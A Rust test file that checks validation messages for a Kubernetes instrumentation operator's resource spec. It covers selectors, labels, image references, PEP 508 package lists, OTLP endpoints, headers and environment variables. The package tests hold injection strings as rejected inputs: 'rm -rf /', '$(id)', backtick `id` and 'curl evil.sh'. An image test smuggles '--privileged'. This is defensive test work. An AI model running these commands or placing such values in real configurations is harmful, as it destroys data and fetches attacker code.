//! Rules beyond the OpenLIT operator's: selector operators and label syntax, enumerations, image
//! references, PEP 508 custom packages, OTLP endpoints and headers, failure mode, environment
//! variable details and `spec.go`. Each case states exactly the messages a user sees.

mod crd_support;

use crd_support::Msg::{Is, StartsWith};
use crd_support::{Case, Msg, check};

const SELECTOR: &str = "selector:\n  matchLabels:\n    app: chat";
const OTLP: &str = "otlp:\n  endpoint: http://openlit.openlit.svc.cluster.local:4318";
const SHA256: &str = "4f53cda18c2baa0c0354bb5f9a3ecbe5ed12ab4d8e11ba873c2f11161202b945";

fn indent(text: &str, by: usize) -> String {
    text.trim_matches('\n')
        .lines()
        .map(|line| format!("{}{line}", " ".repeat(by)))
        .collect::<Vec<_>>()
        .join("\n")
}

/// A case whose `python.instrumentation` holds `fields`.
fn python(name: &'static str, fields: &str, errors: Vec<Msg>, warnings: Vec<Msg>) -> Case {
    Case {
        name,
        spec: format!(
            "{SELECTOR}\npython:\n  instrumentation:\n{}\n{OTLP}",
            indent(fields, 4)
        ),
        errors,
        warnings,
    }
}

/// A case whose `selector` is `selector` (written at column 0, without the `selector:` line).
fn selector(name: &'static str, selector: &str, errors: Vec<Msg>) -> Case {
    Case {
        name,
        spec: format!("selector:\n{}\n{OTLP}", indent(selector, 2)),
        errors,
        warnings: vec![],
    }
}

/// A case whose `otlp` holds `fields`.
fn otlp(name: &'static str, fields: &str, errors: Vec<Msg>, warnings: Vec<Msg>) -> Case {
    Case {
        name,
        spec: format!("{SELECTOR}\notlp:\n{}", indent(fields, 2)),
        errors,
        warnings,
    }
}

#[test]
fn selector_operators_and_values() {
    check(vec![
        selector(
            "In with values",
            "matchExpressions:\n  - {key: tier, operator: In, values: [a, b]}",
            vec![],
        ),
        selector(
            "NotIn with values",
            "matchExpressions:\n  - {key: tier, operator: NotIn, values: [a]}",
            vec![],
        ),
        selector(
            "Exists",
            "matchExpressions:\n  - {key: tier, operator: Exists}",
            vec![],
        ),
        selector(
            "DoesNotExist with empty values",
            "matchExpressions:\n  - {key: tier, operator: DoesNotExist, values: []}",
            vec![],
        ),
        selector(
            "In without values",
            "matchExpressions:\n  - {key: tier, operator: In}",
            vec![Is(
                "spec.selector.matchExpressions[0] uses operator In, which needs at least one value",
            )],
        ),
        selector(
            "NotIn with an empty list",
            "matchExpressions:\n  - {key: tier, operator: NotIn, values: []}",
            vec![Is(
                "spec.selector.matchExpressions[0] uses operator NotIn, which needs at least one value",
            )],
        ),
        selector(
            "Exists with values",
            "matchExpressions:\n  - {key: tier, operator: Exists, values: [a]}",
            vec![Is(
                "spec.selector.matchExpressions[0] uses operator Exists, which takes no values",
            )],
        ),
        selector(
            "DoesNotExist with values",
            "matchExpressions:\n  - {key: a, operator: Exists}\n  - {key: tier, operator: DoesNotExist, values: [a]}",
            vec![Is(
                "spec.selector.matchExpressions[1] uses operator DoesNotExist, which takes no values",
            )],
        ),
        selector(
            "unknown operator",
            "matchExpressions:\n  - {key: tier, operator: Equals, values: [a]}",
            vec![Is(
                "spec.selector.matchExpressions[0].operator 'Equals' is not one of In, NotIn, Exists, DoesNotExist",
            )],
        ),
        selector(
            "operators are case-sensitive",
            "matchExpressions:\n  - {key: tier, operator: in, values: [a]}",
            vec![Is(
                "spec.selector.matchExpressions[0].operator 'in' is not one of In, NotIn, Exists, DoesNotExist",
            )],
        ),
    ]);
}

#[test]
fn empty_selectors_are_errors() {
    let error = || {
        vec![Is(
            "spec.selector must have either matchLabels or matchExpressions",
        )]
    };
    check(vec![
        Case {
            name: "no selector at all",
            spec: OTLP.into(),
            errors: error(),
            warnings: vec![],
        },
        selector(
            "both lists empty",
            "matchLabels: {}\nmatchExpressions: []",
            error(),
        ),
    ]);
}

#[test]
fn label_syntax() {
    check(vec![
        selector(
            "prefixed key",
            "matchLabels:\n  app.kubernetes.io/name: chat",
            vec![],
        ),
        selector("empty value", "matchLabels:\n  canary: \"\"", vec![]),
        selector(
            "key with a space",
            "matchLabels:\n  my app: chat",
            vec![Is(
                "spec.selector.matchLabels key 'my app' is not a valid label key: name part 'my app' contains ' ' (only letters, digits, '-', '_' and '.' are allowed)",
            )],
        ),
        selector(
            "upper-case prefix",
            "matchLabels:\n  Example.com/app: chat",
            vec![StartsWith(
                "spec.selector.matchLabels key 'Example.com/app' is not a valid label key: prefix 'Example.com'",
            )],
        ),
        selector(
            "value starting with a hyphen",
            "matchLabels:\n  app: -chat",
            vec![Is(
                "spec.selector.matchLabels['app'] value '-chat' is not a valid label value: must start and end with a letter or digit",
            )],
        ),
        selector(
            "value too long",
            &format!("matchLabels:\n  app: {}", "v".repeat(64)),
            vec![Is(
                "spec.selector.matchLabels['app'] is 64 characters long; at most 63 are allowed",
            )],
        ),
        selector(
            "expression key and values",
            "matchExpressions:\n  - {key: \"bad key\", operator: In, values: [ok, \"not ok\"]}",
            vec![
                StartsWith(
                    "spec.selector.matchExpressions[0].key 'bad key' is not a valid label key",
                ),
                StartsWith(
                    "spec.selector.matchExpressions[0].values has 'not ok', which is not a valid label value",
                ),
            ],
        ),
        Case {
            name: "ignore is checked with its own path",
            spec: format!(
                "{SELECTOR}\nignore:\n  matchExpressions:\n    - {{key: debug, operator: Exists, values: [x]}}\n{OTLP}"
            ),
            errors: vec![Is(
                "spec.ignore.matchExpressions[0] uses operator Exists, which takes no values",
            )],
            warnings: vec![],
        },
    ]);
}

#[test]
fn enumerations() {
    check(vec![
        python(
            "every provider: openinference",
            "provider: openinference",
            vec![],
            vec![],
        ),
        python(
            "every provider: openllmetry",
            "provider: openllmetry",
            vec![],
            vec![],
        ),
        python(
            "unknown provider",
            "provider: datadog",
            vec![Is(
                "spec.python.instrumentation.provider 'datadog' is not one of openlit, openinference, openllmetry, custom",
            )],
            vec![],
        ),
        python(
            "custom provider without an image",
            "provider: custom",
            vec![Is("customInitImage is required when provider is 'custom'")],
            vec![],
        ),
        python(
            "custom provider with an image",
            "provider: custom\ncustomInitImage: ghcr.io/acme/instr:1.0",
            vec![],
            vec![],
        ),
        python(
            "pull policy Never",
            "imagePullPolicy: Never",
            vec![],
            vec![],
        ),
        python(
            "unknown pull policy",
            "imagePullPolicy: Sometimes",
            vec![Is(
                "spec.python.instrumentation.imagePullPolicy 'Sometimes' is not one of Always, IfNotPresent, Never",
            )],
            vec![],
        ),
        python("onFailure block", "onFailure: block", vec![], vec![]),
        python(
            "unknown onFailure",
            "onFailure: retry",
            vec![Is(
                "spec.python.instrumentation.onFailure 'retry' is not one of continue, block",
            )],
            vec![],
        ),
        python("enabled false is valid", "enabled: false", vec![], vec![]),
    ]);
}

#[test]
fn versions() {
    let semver = || {
        vec![Is(
            "version should follow semantic versioning (e.g., 1.0.0)",
        )]
    };
    check(vec![
        python("latest", "version: latest", vec![], vec![]),
        python("semantic version", "version: \"1.2.3\"", vec![], vec![]),
        python("pre-release", "version: 1.2.3-rc.1", vec![], vec![]),
        python("no dots", "version: \"1\"", vec![], semver()),
        python("two parts", "version: \"1.2\"", vec![], semver()),
        python("a word", "version: nightly", vec![], semver()),
        python(
            "not a tag",
            "version: \"1.2.3 beta\"",
            vec![StartsWith(
                "spec.python.instrumentation.version: invalid tag '1.2.3 beta'",
            )],
            vec![],
        ),
    ]);
}

fn image(name: &'static str, reference: &str, errors: Vec<Msg>) -> Case {
    python(
        name,
        &format!("customInitImage: \"{reference}\""),
        errors,
        vec![],
    )
}

#[test]
fn image_references() {
    let digest = format!("ghcr.io/x/y@sha256:{SHA256}");
    let tag_and_digest = format!("ghcr.io/x/y:1.0@sha256:{SHA256}");
    check(vec![
        image(
            "registry with port",
            "registry.example.com:5000/team/img:1.2",
            vec![],
        ),
        image("digest", &digest, vec![]),
        image("tag and digest", &tag_and_digest, vec![]),
        image(
            "no tag",
            "ghcr.io/openlit/openlit-ai-instrumentation",
            vec![],
        ),
        image("docker hub short name", "python:3.12-alpine", vec![]),
        image("localhost registry", "localhost:5000/instr:dev", vec![]),
        image("IPv6 registry", "[fd00::1]:5000/instr:dev", vec![]),
        image(
            "upper-case repository",
            "ghcr.io/Team/img:1.0",
            vec![Is(
                "spec.python.instrumentation.customInitImage 'ghcr.io/Team/img:1.0' is not a valid image reference: repository path 'Team/img' must be lower case",
            )],
        ),
        image(
            "short digest",
            "ghcr.io/x/y@sha256:abc123",
            vec![Is(
                "spec.python.instrumentation.customInitImage 'ghcr.io/x/y@sha256:abc123' is not a valid image reference: invalid digest 'sha256:abc123': expected sha256:<64 lower-case hex digits> or sha512:<128 lower-case hex digits>",
            )],
        ),
        image(
            "port out of range",
            "registry.example.com:70000/img:1",
            vec![Is(
                "spec.python.instrumentation.customInitImage 'registry.example.com:70000/img:1' is not a valid image reference: invalid registry port '70000'",
            )],
        ),
        image(
            "empty tag",
            "ghcr.io/x/y:",
            vec![StartsWith(
                "spec.python.instrumentation.customInitImage 'ghcr.io/x/y:' is not a valid image reference: invalid tag ''",
            )],
        ),
        image(
            "whitespace",
            "ghcr.io/x/y:1 --privileged",
            vec![Is(
                "spec.python.instrumentation.customInitImage 'ghcr.io/x/y:1 --privileged' is not a valid image reference: image reference must not contain whitespace or control characters",
            )],
        ),
        image(
            "double slash",
            "ghcr.io/x//y",
            vec![StartsWith(
                "spec.python.instrumentation.customInitImage 'ghcr.io/x//y' is not a valid image reference: invalid repository path 'x//y'",
            )],
        ),
    ]);
}

fn packages(name: &'static str, yaml_value: &str, errors: Vec<Msg>) -> Case {
    python(
        name,
        &format!("customPackages: {yaml_value}"),
        errors,
        vec![],
    )
}

#[test]
fn custom_packages() {
    const P: &str = "spec.python.instrumentation.customPackages item";
    check(vec![
        packages("lower bound", "langchain>=0.1.0", vec![]),
        packages(
            "extras, pin and marker",
            r#"'openai[datalib]==1.2.3; python_version>="3.9"'"#,
            vec![],
        ),
        packages(
            "several with ranges",
            "'langchain>=0.1.0,<0.4, chromadb~=0.4, numpy!=1.0.0'",
            vec![],
        ),
        packages("trailing comma", "'langchain,'", vec![]),
        packages(
            "command after a semicolon",
            "'requests; rm -rf /'",
            vec![Is(
                "spec.python.instrumentation.customPackages item \"requests; rm -rf /\" has text after ';' that is not an environment marker such as python_version >= \"3.9\": unknown marker variable 'rm' (expected a name such as python_version, sys_platform or extra, or a quoted string)",
            )],
        ),
        packages(
            "pipe",
            "'foo|bar'",
            vec![Is(
                "spec.python.instrumentation.customPackages item \"foo|bar\" contains the shell metacharacter '|'",
            )],
        ),
        packages(
            "command substitution",
            "'$(id)'",
            vec![Is(
                "spec.python.instrumentation.customPackages item \"$(id)\" contains the shell metacharacter '$'",
            )],
        ),
        packages(
            "backticks",
            "'`id`'",
            vec![Is(
                "spec.python.instrumentation.customPackages item \"`id`\" contains the shell metacharacter '`'",
            )],
        ),
        packages(
            "and-list",
            "'requests && curl evil.sh'",
            vec![Is(
                "spec.python.instrumentation.customPackages item \"requests && curl evil.sh\" contains the shell metacharacter '&'",
            )],
        ),
        packages(
            "newline inside an item",
            "\"requests\\nrm\"",
            vec![Is(
                "spec.python.instrumentation.customPackages item \"requests\\nrm\" contains the shell metacharacter '\\n'",
            )],
        ),
        packages(
            "redirection",
            "'requests > /tmp/out'",
            vec![Is(
                "spec.python.instrumentation.customPackages item \"requests > /tmp/out\" has an invalid version specifier: '>' must be followed by a version, found '/tmp/out'",
            )],
        ),
        packages(
            "quote outside a marker",
            "'\"requests\"'",
            vec![StartsWith(P)],
        ),
        packages(
            "pip option",
            "'--extra-index-url=http://mirror'",
            vec![StartsWith(
                "spec.python.instrumentation.customPackages item \"--extra-index-url=http://mirror\" must start with a package name",
            )],
        ),
        packages(
            "direct URL",
            "'pkg @ https://example.com/pkg.whl'",
            vec![Is(
                "spec.python.instrumentation.customPackages item \"pkg @ https://example.com/pkg.whl\" is a direct URL requirement (name @ url), which is not accepted",
            )],
        ),
        packages(
            "every bad item is reported",
            "'good, foo|bar, $(id)'",
            vec![
                StartsWith("spec.python.instrumentation.customPackages item \"foo|bar\""),
                StartsWith("spec.python.instrumentation.customPackages item \"$(id)\""),
            ],
        ),
    ]);
}

#[test]
fn endpoints() {
    let bad = |name: &'static str, endpoint: &str, message: &'static str| {
        otlp(
            name,
            &format!("endpoint: \"{endpoint}\""),
            vec![Is(message)],
            vec![],
        )
    };
    let good = |name: &'static str, endpoint: &str| {
        otlp(name, &format!("endpoint: \"{endpoint}\""), vec![], vec![])
    };
    check(vec![
        good("IPv6 literal", "http://[::1]:4318"),
        good("IPv6 literal with path", "https://[2001:db8::10]/otlp"),
        good("IPv4", "http://10.96.0.15:4318"),
        good("https without port", "https://otel.example.com"),
        good(
            "service DNS name with path",
            "http://collector.observability.svc:4318/otlp",
        ),
        bad(
            "missing scheme",
            "openlit.openlit.svc:4318",
            "invalid OTLP endpoint URL: missing scheme: it must start with http:// or https://",
        ),
        bad(
            "ftp",
            "ftp://collector:21",
            "invalid OTLP endpoint URL: unsupported scheme 'ftp': use http or https",
        ),
        bad(
            "spaces",
            "http://collector :4318",
            "invalid OTLP endpoint URL: it must not contain whitespace or control characters",
        ),
        bad(
            "credentials",
            "http://user:secret@collector:4318",
            "invalid OTLP endpoint URL: credentials in the URL are not supported; use otlp.headers",
        ),
        bad(
            "query",
            "http://collector:4318?token=x",
            "invalid OTLP endpoint URL: query strings and fragments are not supported",
        ),
        bad(
            "port range",
            "http://collector:70000",
            "invalid OTLP endpoint URL: invalid port '70000': expected a number from 1 to 65535",
        ),
        bad(
            "underscore host",
            "http://otel_collector:4318",
            "invalid OTLP endpoint URL: invalid host 'otel_collector'",
        ),
        bad(
            "unbracketed IPv6",
            "http://::1:4318",
            "invalid OTLP endpoint URL: invalid host ''",
        ),
        bad(
            "bad IPv6",
            "http://[::1::2]:4318",
            "invalid OTLP endpoint URL: invalid host '[::1::2]:4318'",
        ),
    ]);
}

#[test]
fn headers_and_timeout() {
    check(vec![
        otlp(
            "two headers",
            "endpoint: http://c:4318\nheaders: \"api-key=abc, x-tenant=t1\"",
            vec![],
            vec![],
        ),
        otlp(
            "header without a value separator",
            "endpoint: http://c:4318\nheaders: \"api-key=abc,tenant\"",
            vec![Is(
                "spec.otlp.headers must be in key=value,key2=value2 form: entry 2 ('tenant') is not in key=value form",
            )],
            vec![],
        ),
        otlp(
            "header name with a space",
            "endpoint: http://c:4318\nheaders: \"api key=abc\"",
            vec![Is(
                "spec.otlp.headers must be in key=value,key2=value2 form: entry 1 has an invalid header name 'api key'",
            )],
            vec![],
        ),
        otlp(
            "timeout 1",
            "endpoint: http://c:4318\ntimeout: 1",
            vec![],
            vec![],
        ),
        otlp(
            "timeout 300",
            "endpoint: http://c:4318\ntimeout: 300",
            vec![],
            vec![],
        ),
        otlp(
            "timeout 301",
            "endpoint: http://c:4318\ntimeout: 301",
            vec![Is("timeout must be between 1 and 300 seconds")],
            vec![],
        ),
        otlp(
            "negative timeout",
            "endpoint: http://c:4318\ntimeout: -5",
            vec![Is("timeout must be between 1 and 300 seconds")],
            vec![],
        ),
    ]);
}

#[test]
fn environment_variable_details() {
    check(vec![
        python(
            "name starting with a digit",
            "env:\n  - {name: 1ST, value: x}",
            vec![Is(
                "environment variable name '1ST' is invalid: use letters, digits, '_', '-' and '.', not starting with a digit",
            )],
            vec![],
        ),
        python(
            "valueFrom without a source",
            "env:\n  - {name: KEY, valueFrom: {}}",
            vec![Is(
                "environment variable 'KEY' valueFrom must set exactly one of secretKeyRef, configMapKeyRef, fieldRef or resourceFieldRef",
            )],
            vec![],
        ),
        python(
            "secret without a key",
            "env:\n  - name: KEY\n    valueFrom:\n      secretKeyRef: {name: s, key: \"\"}",
            vec![Is(
                "environment variable 'KEY' secretKeyRef needs both 'name' and 'key'",
            )],
            vec![],
        ),
        python(
            "resource field reference",
            "env:\n  - name: MEM\n    valueFrom:\n      resourceFieldRef: {resource: limits.memory, divisor: 1Mi}",
            vec![],
            vec![],
        ),
    ]);
}

#[test]
fn go_section_and_environment() {
    check(vec![
        Case {
            name: "spec.go",
            spec: format!("{SELECTOR}\ngo:\n  image: ghcr.io/acme/go-instr:1.0\n{OTLP}"),
            errors: vec![],
            warnings: vec![Is(
                "spec.go is accepted for compatibility, but Go instrumentation is not performed",
            )],
        },
        Case {
            name: "environment that would break OTEL_RESOURCE_ATTRIBUTES",
            spec: format!("{SELECTOR}\n{OTLP}\nresource:\n  environment: \"prod,team=ml\""),
            errors: vec![StartsWith(
                "spec.resource.environment 'prod,team=ml' must not contain ',', '='",
            )],
            warnings: vec![],
        },
        Case {
            name: "python without instrumentation",
            spec: format!("{SELECTOR}\npython: {{}}\n{OTLP}"),
            errors: vec![],
            warnings: vec![],
        },
    ]);
}

#[test]
fn init_container_resources() {
    check(vec![
        python(
            "requests below limits",
            "resources:\n  requests: {cpu: 100m, memory: 128Mi}\n  limits: {cpu: 1, memory: 0.5Gi}",
            vec![],
            vec![],
        ),
        python(
            "request above its limit",
            "resources:\n  requests: {memory: 512Mi}\n  limits: {memory: 256Mi}",
            vec![Is(
                "spec.python.instrumentation.resources.requests['memory'] (512Mi) is greater than its limit (256Mi)",
            )],
            vec![],
        ),
        python(
            "not a quantity",
            "resources:\n  limits: {cpu: two}",
            vec![Is(
                "spec.python.instrumentation.resources.limits['cpu'] 'two' is not a valid quantity (e.g. 500m, 1, 256Mi)",
            )],
            vec![],
        ),
    ]);
}
